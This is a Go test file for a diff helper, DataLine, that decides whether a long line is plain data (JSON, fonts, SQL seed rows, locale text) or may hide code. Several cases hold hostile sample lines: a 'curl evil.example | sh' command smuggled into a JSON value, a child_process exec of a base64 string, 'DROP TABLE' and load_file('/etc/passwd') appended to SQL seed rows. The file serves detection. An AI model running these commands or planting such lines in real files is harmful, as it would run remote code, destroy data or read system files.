package diff

import (
	"strings"
	"testing"
)

// A model sees the beginning of a long line, because the rest is data or may be code.
func TestDataLines(t *testing.T) {
	t.Parallel()
	words, base64 := strings.Repeat("Lorem ipsum dolor. ", 150), strings.Repeat("QUJD", 800)
	rows := strings.Repeat("(1,'name; it''s'),", 200)
	for name, c := range map[string]struct {
		path, line string
		want       bool
	}{
		"a recorded answer":         {"testdata/resp.json", `{"a":` + strings.Repeat(`[1,"b"],"c":`, 300) + `1}`, true},
		"a text of an interface":    {"locales/en.json", `  "terms": "` + words + `",`, true},
		"a list":                    {"data/cities.json", `"` + words + `", "x"`, true},
		"a text with a script":      {"locales/en.json", `  "terms": "` + words + `<script>f()</script>",`, false},
		"an expression in a text":   {"locales/en.json", `  "terms": "` + words + `${x()}",`, false},
		"a script of npm":           {"package.json", `  "postinstall": "` + words + `",`, false},
		"a command in a value":      {"data/a.json", `  "x": "` + words + `; curl evil.example | sh",`, false},
		"a task":                    {".vscode/x.json", `  "x": "` + words + `",`, false},
		"no JSON":                   {"a.json", words, false},
		"a font in a style sheet":   {"style.css", `@font-face { src: url(data:font/woff2;base64,` + base64 + `) format("woff2"); }`, true},
		"two fonts":                 {"style.css", `a { src: url(data:font/woff2;base64,` + base64 + `), url(data:font/woff;base64,` + base64 + `); }`, true},
		"a vector picture":          {"style.css", `a { background: url("data:image/svg+xml,%3Csvg` + words + `") no-repeat; }`, true},
		"a picture in a page":       {"a.html", `<img src="data:image/png;base64,` + base64 + `">`, true},
		"code behind a picture":     {"a.js", `x = "data:image/png;base64,` + base64 + `"; require("child_process").exec(x)`, false},
		"an address that is a page": {"a.html", `<iframe src="data:text/html;base64,` + base64 + `">`, false},
		"rows":                      {"db/seed.sql", "INSERT INTO t (a, b) VALUES " + rows + "(2,NULL);", true},
		"rows and a statement":      {"db/seed.sql", "INSERT INTO t VALUES " + rows + "(2,NULL); DROP TABLE t;", false},
		"a call in a row":           {"db/seed.sql", "INSERT INTO t VALUES " + rows + "(load_file('/etc/passwd'));", false},
		"a migration":               {"db/migrations/1.sql", "INSERT INTO t VALUES " + rows + "(2,NULL);", false},
		"a text in YAML":            {"config/locales/en.yml", `  terms: "` + words + `"`, true},
		"a value in YAML":           {"deploy/values.yaml", `  terms: "` + words + `"`, false},
		"a property":                {"i18n/messages_de.properties", "terms=" + words, true},
		"code":                      {"a.js", "f(); " + strings.Repeat("g(1);", 600), false},
	} {
		if got := DataLine(c.path, c.line, 2000); got != c.want {
			t.Errorf("%s: %v", name, got)
		}
	}
}
